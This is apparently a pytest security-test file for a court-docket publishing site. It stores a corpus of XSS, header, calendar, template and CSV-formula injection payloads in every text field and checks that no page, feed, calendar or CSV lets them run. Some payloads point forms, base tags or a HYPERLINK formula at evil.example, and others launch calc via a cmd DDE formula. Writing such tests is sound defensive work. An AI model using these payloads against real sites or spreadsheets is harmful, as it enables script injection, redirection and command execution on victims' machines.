"""A corpus of stored attacks through every text field of a docket, by the real merge: none of it runs, none
of it is a formula."""

import csv
import io
from dataclasses import fields, replace
from datetime import date
from enum import Enum

import pytest

from docket.issues import Issue
from docket.records import Citation, Correction, Counsel, Document, Party
from docket.snapshot import Form
from docket.vocabulary import PartyType
from publish.datasette_pages import rewrite
from publish.serve import make_datasette
from publish.sheets.lists import SHEETS
from tests.publish.checking import FULL, build
from tests.publish.test_calendars import check_rfc5545
from tests.publish.test_feeds import ATOM, check_atom, data_of, elements_of
from tests.worlds.asking import answers_of as ask
from tests.worlds.browsing import needs_chromium, opened_browser, opened_page, playwright
from tests.worlds.publishing import (
    TRIAL,
    bill_records,
    curated_records,
    question_records,
    register_records,
    sheet_records,
    snapshot,
    theory_records,
)
from tests.worlds.serving import served

ATTACKS = (
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(2)>',
    "'><svg/onload=alert(3)>",
    "</title></textarea></style></script><script>alert(4)</script>",
    '<iframe srcdoc="<script>parent.alert(5)</script>"></iframe>',
    "javascript:alert(6)",
    '" autofocus onfocus=alert(7) x="',
    "{{7*7}}{% raw %}{{config}}",  # of a template, not of a page
    "<!--><script>alert(8)</script-->",
    "]]><script>alert(9)</script>",  # out of a CDATA section
    "<math><mtext><style><img src onerror=alert(10)></style></mtext></math>",
    '<a href="data:text/html,<script>alert(11)</script>">x</a>',
    "\u2028alert(12)//\u2029",  # line ends of a script, not of JSON
    "<form action=//evil.example><button autofocus>x</button></form>",
    '<base href=//evil.example><meta http-equiv=refresh content="0;url=//evil.example">',
    "\r\nX-Injected: 1\r\nBEGIN:VEVENT\r\n\x07",  # lines of a header and of a calendar
)
FORMULAS = (
    '=HYPERLINK("http://evil.example","x")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
)
ALL = " ".join(ATTACKS)
# Names and codes by which records find each other; all other text is somebody's.
_KEYS = {
    "case_id",
    "entity_id",
    "bill_id",
    "parent_entity_id",
    "other_slug",
    "hearing_key",
    "entry_number",
    "kind",
    "link_type",
    "event",
    "time_local",
    "date_from",
    "date_to",
    "plaintiff_type",
    "source_url",
    "event_id",
    "docket_slug",
    "relation",
    "basis",
    "code",
    "judge_id",
    "slug",
    "question",
    "side",
    "act_date",
}
PAGES = (
    "/",
    "/cases",
    "/case/roe-v-example",
    "/case/lone-v-example",
    "/hearings?as_of=2026-06-01",
    "/hearings?month=2026-06",
    "/changes",
    "/changes?kind=edits",
    "/issues",
    "/status",
    "/parties",
    "/party/sample",
    "/courts",
    "/court/cand",
    "/circuit/9",
    "/bills",
    "/bills/not-taken-in",
    "/bill/119-hr-1",
    "/congress",
    "/bills.atom",
    "/matrix",
    "/rulings",
    "/splits",
    "/splits?by=question",
    "/question/design_defect",
    "/theory/product_design",
    "/laws",
    "/judges",
    "/figures",
    "/coverage",
    "/coverage?court=cand",
    "/quality",
    "/download",
    "/about",
    "/api",
    "/search?q=script",
    "/search?q=%3Cscript%3Ealert(1)%3C/script%3E",
    "/embed/case/roe-v-example",
    "/oembed?url=http://localhost/case/roe-v-example",
    "/changes.atom",
    "/case/roe-v-example.atom",
    "/cases.atom",
    "/corrections.atom",
    "/sitemap.xml",
    "/case/roe-v-example.ics",
    "/hearings.ics?as_of=2026-06-01",
    "/court/cand.ics",
    "/party/sample.ics",
    "/court/cand.atom",
    "/party/sample.atom",
    "/docket",
    "/docket/cases",
    "/docket/docket_entries",
    "/docket/participations",
    "/docket/parties",
    "/docket/representations",
    "/docket/cases/roe-v-example",
    "/docket/changes",
    "/docket/issues",
    "/docket?sql=select+text+from+docket_entries",
    "/api/v1/cases/roe-v-example",
    "/api/v1/entries",
    "/docket/cases.json",
    "/docket/docket_entries.csv",
    "/api/v1/entries.csv",
    "/no-such-page%3Cscript%3Ealert(1)%3C/script%3E",
    "/case/%3Cscript%3Ealert(1)%3C/script%3E",
)
# Of one template or writer with another of them: opened in Chromium by ./test --full; without it, read each time.
_ALIKE = {
    "/case/lone-v-example",
    "/search?q=script",
    "/bills.atom",
    "/cases.atom",
    "/corrections.atom",
    "/court/cand.atom",
    "/party/sample.atom",
    "/hearings.ics?as_of=2026-06-01",
    "/court/cand.ics",
    "/party/sample.ics",
    "/docket/docket_entries",
    "/docket/participations",
    "/docket/parties",
    "/docket/changes",
    "/docket/issues",
    "/api/v1/entries",
    "/api/v1/entries.csv",
    "/case/%3Cscript%3Ealert(1)%3C/script%3E",
}


def poisoned(records, text):
    """Return the records with `text` in each field that holds free text, and with source addresses that are scripts."""
    for record in records:
        free = {
            field.name: "javascript:alert(0)" if field.name == "source_url" else text
            for field in fields(record)
            if isinstance(getattr(record, field.name), str)
            and not isinstance(getattr(record, field.name), Enum)
            and (field.name not in _KEYS or field.name == "source_url")
        }
        yield replace(record, **free)


def build_attacked(path, text):
    """Write the small world, its words replaced by `text`, with counsel, a document, a citation and an issue
    beside them."""
    sheet = {"form": Form.SHEET, "source": "pacer_docket"}
    more = [
        Party(
            TRIAL,
            f"{text} Ltd",
            PartyType.DEFENDANT,
            text,
            extra_info=text,
            counsel=(Counsel(text, firm=text, roles=(text,)),),
        ),
        Citation(TRIAL, text),
        Issue("unmapped-disposition", text, text),
    ]
    docket, *entries = poisoned(sheet_records("a", "b", "c"), text)
    document = Document(description=text, url="javascript:alert(0)")
    looks = [
        (snapshot("catalog:dockets.csv", b"1"), poisoned(curated_records(), text)),
        (snapshot("catalog:entities.csv", b"2"), poisoned(register_records(), text)),
        (snapshot("catalog:bills.csv", b"3"), poisoned(bill_records(), text)),
        (snapshot("catalog:theories.csv", b"6"), poisoned(theory_records(), text)),
        (snapshot("catalog:questions.csv", b"7"), poisoned(question_records(), text)),
    ]
    for body, stamp in ((b"4", "2026-06-02T12:00:00Z"), (b"5", "2026-06-03T12:00:00Z")):
        edited = [
            replace(entry, text=f"{text} {stamp}", date_filed=date(2022, 2, 1), documents=(document,))
            for entry in entries
        ]
        seen = snapshot(f"import:{ATTACKS[1]}.html", body, fetched_at=stamp, **sheet)
        looks.append((seen, [docket, *edited, *more]))
    corrected = {"form": Form.CORRECTION, "source": "corrections", "fetched_at": "2026-06-04T00:00:00Z"}
    correction = Correction(
        "dockets", "cand-22-cv-01234", "assigned_to", text, text, text, "2026-06-04T00:00:00Z"
    )
    looks.append((snapshot("corrections:corrections.csv", b"8", **corrected), [correction]))
    build(path, looks)


@pytest.fixture(scope="module")
def world(tmp_path_factory):
    path = tmp_path_factory.mktemp("attacks") / "docket.db"
    build_attacked(path, ALL)
    return path


@needs_chromium
def test_no_stored_script_runs(world):
    """On any kind of page, feed or file, opened in Chromium: no dialog, no request elsewhere, no element of theirs."""
    with served(world) as address, opened_browser() as browser, opened_page(browser) as page:
        dialogs, asked = [], []
        page.on("dialog", lambda dialog: (dialogs.append((page.url, dialog.message)), dialog.dismiss()))
        page.on("request", lambda request: asked.append(request.url))
        page.on("download", lambda download: download.cancel())
        for path in PAGES if FULL else [path for path in PAGES if path not in _ALIKE]:
            visit(page, address + path)
            strange = page.evaluate("""[...document.querySelectorAll(
              'script:not([type="application/ld+json"], [src="/static/copy.js"]), iframe, base, ' +
              'meta[http-equiv], img, [onerror], [onload], [onfocus], [href^="javascript:"], [href^="data:"]'
            )].map(e => e.outerHTML.slice(0, 200))""")
            assert strange == [], path
        assert dialogs == []
        assert {url for url in asked if not url.startswith(f"{address}/")} == set()


def visit(page, url):
    try:
        page.goto(url)
    except playwright.Error as error:
        if "Download is starting" not in str(error):  # a calendar: Chromium saves it
            raise


@pytest.mark.parametrize("path", PAGES)
def test_hostile_text_breaks_no_page(ds, path):
    answer = ask(ds, path)
    is_nowhere = (
        "script%3E" in path and "search" not in path
    )  # Datasette sends on what it writes in another way (302)
    assert answer.status_code in ((404, 302) if is_nowhere else (200,)), path
    assert answer.headers.get("location", "/").startswith("/"), path
    assert "default-src 'none'" in answer.headers["content-security-policy"]
    assert answer.headers["x-content-type-options"] == "nosniff"
    # Where no script-src is, default-src decides: none. A case's page may run the file that copies its citations.
    policy = answer.headers["content-security-policy"].partition("script-src ")[2]
    assert policy in (("", "'self'") if path.startswith("/case/") else ("",))
    assert "x-injected" not in answer.headers
    kind = answer.headers["content-type"].partition(";")[0]
    if kind == "application/atom+xml":
        contents = check_atom(answer.content).xpath("a:entry/a:content/text()", namespaces=ATOM)
        assert {name for content in contents for name, _ in elements_of(content)} <= {"p", "del", "ins"}
    elif kind == "text/calendar":
        check_rfc5545(answer.content)
        assert "\r\nX-Injected" not in answer.text.replace("\r\n ", "")
    elif kind == "text/html":
        elements = elements_of(answer.text)
        assert not {"img", "iframe", "base", "svg/onload"} & {name for name, _ in elements}
        ours = ({"type": "application/ld+json"}, {"src": "/static/copy.js", "defer": ""})
        assert [a for name, a in elements if name == "script" and a not in ours] == []
        assert [a for _, a in elements if any(key.startswith("on") for key in a)] == []
        assert "49{%" not in answer.text  # no template is made of data


def test_a_hostile_case_still_describes_itself(ds):
    assert "<script>alert(1)</script>" in data_of(ask(ds, "/case/roe-v-example").text)["name"]


@pytest.mark.parametrize("formula", FORMULAS)
def test_no_csv_holds_a_formula(tmp_path, formula):
    """Ours and Datasette's own: of tables, views, SQL, whole and streamed."""
    path = tmp_path / "docket.db"
    build_attacked(path, formula)
    datasette = make_datasette(path)
    for csv_path in (
        "/docket/docket_entries.csv",
        "/docket/docket_entries.csv?_stream=1",
        "/docket/participations.csv?_dl=1",
        "/docket/cases.csv?_labels=on",
        "/docket/parties.csv",
        "/docket/changes.csv?_size=max",
        "/docket/issues.csv",
        "/docket/representations.csv",
        "/docket.csv?sql=select+text+from+docket_entries",
        "/docket.csv?sql=select+'%3D1%2B1'+as+'%3Dname'",
        "/docket/search_entries.csv?q=evil",
        "/api/v1/entries.csv",
        "/api/v1/cases.csv",
        "/api/v1/dockets.csv",
        *(f"/{name}.csv" for name in SHEETS if name != "laws"),  # this world has none
    ):
        answer = ask(datasette, csv_path)
        assert answer.status_code in (200, 404), csv_path
        cells = [cell for row in csv.reader(io.StringIO(answer.text, newline="")) for cell in row]
        assert [cell for cell in cells if cell.lstrip()[:1] in ("=", "+", "-", "@") and cell.strip()] == [], (
            csv_path
        )
        assert answer.status_code == 404 or "search" in csv_path or any("'" in cell for cell in cells), (
            csv_path
        )


def test_only_formulas_are_changed():
    rows = 'a,=1,"x, ""y""\r\nz",-5,-5.25,+5,"\t@b",,é\r\n'.encode()
    assert rewrite(rows).decode() == 'a,\'=1,"x, ""y""\r\nz",-5,-5.25,\'+5,\'\t@b,,é\r\n'


def test_a_cell_as_long_as_an_opinion_is_written():
    assert rewrite(b"x" * 200_000 + b",=1\r\n") == b"x" * 200_000 + b",'=1\r\n"


def test_no_address_tells_where_the_files_lie(ds, world):
    for path in (
        "/-/databases",
        "/-/databases.json",
        "/-/metadata.json",
        "/-/plugins.json",
        "/-/settings.json",
        "/-/config.json",
        "/docket.json",
        "/-/threads.json",
    ):
        assert str(world.parent) not in ask(ds, path).text, path
